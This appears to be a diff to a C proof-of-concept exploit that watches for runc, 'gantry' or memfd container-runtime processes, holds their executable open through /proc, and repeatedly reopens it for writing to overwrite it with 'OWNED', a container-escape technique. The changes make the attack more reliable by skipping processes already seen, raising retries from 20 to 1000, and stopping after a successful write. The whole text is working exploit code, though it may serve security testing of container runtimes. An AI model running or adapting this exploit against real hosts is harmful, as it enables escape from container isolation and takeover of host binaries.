@@ -12,6 +12,8 @@
 #include <time.h>
 #include <unistd.h>
 
+static char known[1 << 22];
+
 static void attack(const char *pid)
 {
 	char path[64], name[512], again[64];
@@ -28,16 +30,18 @@ static void attack(const char *pid)
 	name[length] = 0;
 	if (strstr(name, "memfd:") == NULL && strstr(name, "gantry") == NULL && strstr(name, "runc") == NULL)
 		return;
+	if (known[atoi(pid)]++)
+		return;
 	printf("met %s %s\n", pid, name);
 	/* Held open, it can be opened again for writing once nobody executes it any more. */
 	held = open(path, O_RDONLY);
 	if (held < 0)
 		return;
 	snprintf(again, sizeof again, "/proc/self/fd/%d", held);
-	for (round = 0; round < 20; round++) {
+	for (round = 0; round < 1000; round++) {
 		file = open(again, O_WRONLY);
 		if (file >= 0 && write(file, "OWNED", 5) == 5)
-			printf("wrote %s\n", pid);
+			printf("wrote %s\n", pid), round = 1000;
 		if (file >= 0)
 			close(file);
 		usleep(1000);
